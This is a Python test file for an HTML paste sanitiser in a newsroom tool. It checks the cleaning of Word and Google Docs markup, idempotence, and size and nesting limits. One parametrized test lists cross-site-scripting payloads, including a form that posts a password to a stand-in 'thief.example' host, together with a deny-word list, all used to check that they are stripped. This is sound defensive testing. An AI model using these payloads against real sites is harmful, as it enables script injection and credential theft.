"""What is pasted: what may stay stays, nothing that acts does, and cleaning twice gives the same."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wirecopy.desk.markup import MOST_CHARACTERS, clean, links_of, text_of
from wirecopy.errors import StoryIncomplete

WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0}</style></head><body lang=EN-US>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--><!--StartFragment-->
<p class=MsoNormal style='margin-bottom:0'><b style='mso-bidi-font-weight:normal'><span style='font-size:14.0pt'>The harbor</span></b><o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p><p class="MsoNormal">closed at noon.</p><!--EndFragment--></body></html>"""
DOCS = """<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr" style="line-height:1.38"><span style="font-size:11pt">One <a href="https://harborlight.example/a?b=1&amp;c=2"><span>link</span></a>.</span></p><br><ul><li dir="ltr"><p dir="ltr"><span>First</span></p></li></ul></b>"""


def test_word_leaves_its_words() -> None:
    assert clean(WORD) == "<p><strong>The harbor</strong></p>\n<p>closed at noon.</p>"


def test_google_docs_leave_their_words_links_and_lists() -> None:
    cleaned = clean(DOCS)
    assert text_of(cleaned).splitlines() == ["One link.", "First"]
    assert '<a href="https://harborlight.example/a?b=1&amp;c=2">link</a>' in cleaned
    assert "style" not in cleaned
    assert "guid" not in cleaned


@pytest.mark.parametrize(
    "hostile",
    [
        "<p>a<script>alert(1)</script></p>",
        '<p onclick="alert(1)">a</p>',
        '<a href="javascript:alert(1)">a</a>',
        '<a href="JaVaScRiPt&#58;alert(1)">a</a>',
        '<a href="data:text/html,alert(1)">a</a>',
        '<svg onload="alert(1)"><script>alert(1)</script></svg>a',
        '<img src=x onerror="alert(1)">a',
        '<iframe srcdoc="alert(1)"></iframe>a',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>a",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>a",
        '<form action="https://thief.example"><input name="password">a</form>',
        "<p>a</p><style>@import url(https://thief.example)</style>",
        '<div style="background:url(javascript:alert(1))">a</div>',
        "<p>a<!-- <img src=x onerror=alert(1)> --></p>",
    ],
)
def test_nothing_that_acts_stays(hostile: str) -> None:
    cleaned = clean(hostile)
    for word in ("script", "alert", "onerror", "onclick", "style", "svg", "iframe", "thief", "form", "img", "data:"):
        assert word not in cleaned.lower(), cleaned
    assert text_of(cleaned).strip(" '>") == "a"


def test_plain_text_becomes_paragraphs_and_is_not_read_as_html() -> None:
    assert clean("One & two\n\n\nthree") == "<p>One &amp; two</p>\n<p>three</p>"
    assert clean("") == ""
    assert clean("<p>&nbsp;</p><p> </p>") == ""


def test_loose_text_stands_in_paragraphs() -> None:
    assert (
        clean("loose <em>words</em><p>a block</p>tail<br>next")
        == "<p>loose <em>words</em></p>\n<p>a block</p>\n<p>tail</p>\n<p>next</p>"
    )


@given(
    st.text()
    | st.lists(
        st.sampled_from(
            [
                "<p>",
                "</p>",
                "<b>",
                "<i>",
                "<br>",
                "<ul><li>",
                "a",
                " ",
                "&lt;",
                "<",
                ">",
                "<a href='x'>",
                "<!--",
                "<div>",
                "</div>",
                "<blockquote>",
                "\x00",
                "漢",
            ]
        )
    ).map("".join)
)
def test_cleaning_twice_gives_the_same(pasted: str) -> None:
    once = clean(pasted)
    assert clean(once) == once
    assert text_of(once) == text_of(clean(once))


def test_ten_megabytes_of_paste_are_refused_in_words() -> None:
    with pytest.raises(StoryIncomplete, match="paste it in parts"):
        clean("<p>a</p>" * (10_000_000 // 8))
    assert len(clean("a" * MOST_CHARACTERS)) > MOST_CHARACTERS


def test_links_stand_where_they_stand_in_the_text() -> None:
    body = clean(
        '<p>One <a href="https://a.example/">two</a> two <a href="https://b.example/">two</a></p><ul><li><a href="https://c.example/">c</a></li></ul>'
    )
    text = text_of(body)
    assert [(href, text[start:end], start) for href, start, end in links_of(body)] == [
        ("https://a.example/", "two", 4),
        ("https://b.example/", "two", 12),
        ("https://c.example/", "c", 16),
    ]


@pytest.mark.parametrize("deep", ["<b>" * 500 + "x", "<ul><li>" * 50_000, "<blockquote>" * 101 + "a"])
def test_what_nests_without_end_is_refused_and_not_lost_without_a_word(deep: str) -> None:
    with pytest.raises(StoryIncomplete, match="nests or leaves open more than 100"):
        clean(deep)
    assert text_of(clean("<b>" * 99 + "x")) == "x"
